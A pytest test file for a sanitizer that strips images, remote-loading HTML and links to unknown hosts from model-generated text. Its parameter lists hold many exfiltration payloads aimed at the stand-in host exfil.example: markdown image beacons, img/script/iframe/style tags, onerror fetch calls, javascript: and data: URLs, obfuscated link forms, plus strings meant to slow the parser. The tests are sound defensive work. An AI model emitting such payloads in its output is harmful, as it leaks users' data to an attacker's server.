"""Model text made safe to store and show: no images, no loading HTML, no links to unknown hosts."""

from __future__ import annotations

import re
import time

import pytest

from core.text import (
    LINK_REMOVED,
    link_allowed,
    safe_model_text,
    strip_remote_content,
    strip_unknown_links,
)

HOSTS = ["app.example", "http://127.0.0.1:8000"]
SECRET = "d=secret"


def clean(text: str) -> str:
    out = safe_model_text(text, HOSTS)
    assert SECRET not in out, out
    assert not re.search(r"!\[|<\s*img|https?://(?:exfil|evil)", out, re.IGNORECASE), out
    return out


@pytest.mark.parametrize("hostile", [
    f"![](https://exfil.example/p.png?{SECRET})",
    f"![chart](<https://exfil.example/p.png?{SECRET}> \"title\")",
    f"![x] (https://exfil.example/p.png?{SECRET})",  # a space some renderers accept
    f"![x]\n(https://exfil.example/p.png?{SECRET})",
    f"![a][1]\n\n[1]: http://exfil.example/x?{SECRET}",
    f"![a][]\n\n[a]: http://exfil.example/x?{SECRET}",
    f"![a]\n\n[a]: <http://exfil.example/x?{SECRET}> 'title'",
    f"![a [b [c]] d](https://exfil.example/deep?{SECRET})",  # deeper than the patterns nest
    f"[![badge](https://exfil.example/b.svg?{SECRET})](https://app.example/ok)",
    f'<img src="https://exfil.example/a.png?{SECRET}">',
    f"<IMG SRC=https://exfil.example/a.png?{SECRET}>",
    f"<img/src='https://exfil.example/a.png?{SECRET}'/>",
    f"<img\nsrc=\"https://exfil.example/a.png?{SECRET}\"\n>",
    f"<<img>img src=https://exfil.example/a.png?{SECRET}>",  # reassembled once the inner tag goes
    f'<picture><source srcset="https://exfil.example/a.png?{SECRET}"></picture>',
    f'<iframe src="https://exfil.example/?{SECRET}"></iframe>',
    f"<script>fetch('https://exfil.example/?{SECRET}')</script>",
    f'<link rel="stylesheet" href="https://exfil.example/s.css?{SECRET}">',
    f"<style>body {{ background: url(https://exfil.example/?{SECRET}) }}</style>",
    f'<div style="background-image: url(https://exfil.example/?{SECRET})">hi</div>',
    f"<svg><image href='https://exfil.example/?{SECRET}'/></svg>",
    f'<video poster="https://exfil.example/p.png?{SECRET}"></video>',
    f'<table background="https://exfil.example/p.png?{SECRET}"><tr><td>x</td></tr></table>',
    f'<a href="https://exfil.example/?{SECRET}">read more</a>',
    f"<img src=x onerror=\"fetch('https://exfil.example/?{SECRET}')\">",
])
def test_images_and_loading_html_are_removed(hostile: str) -> None:
    clean(f"Done: 3 leads found. {hostile} Next: the drafts.")


@pytest.mark.parametrize(("link", "words"), [
    (f"[the report](https://exfil.example/r?{SECRET})", "the report"),
    (f"[the report] (https://exfil.example/r?{SECRET})", "the report"),
    (f"[see **this**](//exfil.example/r?{SECRET})", "see **this**"),
    (f"[x](https&#58;//exfil.example/?{SECRET})", "x"),  # an entity the renderer decodes
    (f"[x](https:\\/\\/exfil.example/?{SECRET})", "x"),  # markdown escapes
    (f"[x](/\\exfil.example/?{SECRET})", "x"),  # a backslash browsers read as a slash
    (f"[x](https://app.example@exfil.example/?{SECRET})", "x"),  # the allowed host as user info
    (f"[x](HTTPS://EXFIL.example/?{SECRET})", "x"),
    (f"[x](javascript:fetch('//exfil.example/?{SECRET}'))", "x"),
    (f"[x](data:text/html,<script>?{SECRET}</script>)", "x"),
    (f"<https://exfil.example/?{SECRET}>", LINK_REMOVED),
    (f"https://exfil.example/?{SECRET}", LINK_REMOVED),
    (f"www.exfil.example/?{SECRET}", LINK_REMOVED),
    (f"https://app.example.exfil.example/?{SECRET}", LINK_REMOVED),  # not a subdomain of the allowed host
])
def test_links_to_unknown_hosts_keep_their_words_not_their_address(link: str, words: str) -> None:
    assert clean(f"Read {link} today.") == f"Read {words} today."


@pytest.mark.parametrize("kept", [
    "[the run](https://app.example/runs/r1)",
    "[docs](https://docs.app.example/guide)",  # a subdomain of an allowed host
    "[local](http://127.0.0.1:8000/api/runs/r1)",
    "[relative](/api/documents/d1)",
    "<https://app.example/x>",
    "https://app.example/runs/r1",
    "<ann@example.com>",
    "ann@example.com",
    "Compare a < b and c > d; **bold**, `code`, <b>fine</b> and <em>this</em>.",
    "- [ ] a task list item\n- [x] done",
    "Footnote[^1].\n\n[^1]: the note.",
])
def test_what_loads_nothing_and_links_to_allowed_hosts_stay(kept: str) -> None:
    assert safe_model_text(kept, HOSTS) == kept


def test_a_reference_to_an_unknown_host_loses_its_definition() -> None:
    assert clean(f"Read [x][r] today.\n\n[r]: https://exfil.example/?{SECRET} \"t\"\nMore.") == "Read [x][r] today.\n\n\nMore."
    assert clean("[a][ok]\n\n[ok]: https://app.example/a") == "[a][ok]\n\n[ok]: https://app.example/a"


def test_bare_links_keep_the_sentence_around_them() -> None:
    assert safe_model_text("(see https://evil.example/x?d=1). Done.", HOSTS) == f"(see {LINK_REMOVED}). Done."
    assert safe_model_text("https://app.example/a_(b).", HOSTS) == "https://app.example/a_(b)."


def test_the_parts_apply_alone() -> None:
    text = "![i](https://exfil.example/i.png) [l](https://exfil.example/l)"
    assert strip_remote_content(text) == " [l](https://exfil.example/l)"  # the UI: links were cleaned when stored
    assert strip_unknown_links(text) == "!i l"
    assert safe_model_text(text) == " l"  # no allowed host: only paths on this app stay


def test_link_allowed_reads_urls_as_a_browser_would() -> None:
    assert link_allowed("/api/x", []) and link_allowed("", []) and link_allowed("#top", [])
    assert link_allowed("https://App.Example./x", ["app.example"])
    assert not link_allowed("https://evil.example", [])
    assert not link_allowed("\t//evil.example/x", ["app.example"])
    assert not link_allowed("ja\nvascript:alert(1)", ["app.example"])
    assert not link_allowed("https:evil.example", ["app.example"])
    assert not link_allowed("http://[evil", ["app.example"])


def test_hostile_shapes_cost_linear_time() -> None:
    """Patterns that made an earlier version scan quadratically (a model can write 15 kB of them)."""
    shapes = ["<script>" * 2000, "<svg x>a" * 2000, "<a " * 5000, "<a b=1 " * 2000, "[" + "\\[" * 8000,
              "![a](" * 3000, "[x](<" * 3000, "\n[a]: " * 3000, "[x](" + "(" * 16000]
    started = time.perf_counter()
    for shape in shapes:
        safe_model_text(shape, HOSTS)
    assert time.perf_counter() - started < 2.0  # about 0.1 s here; the quadratic version took over 30 s
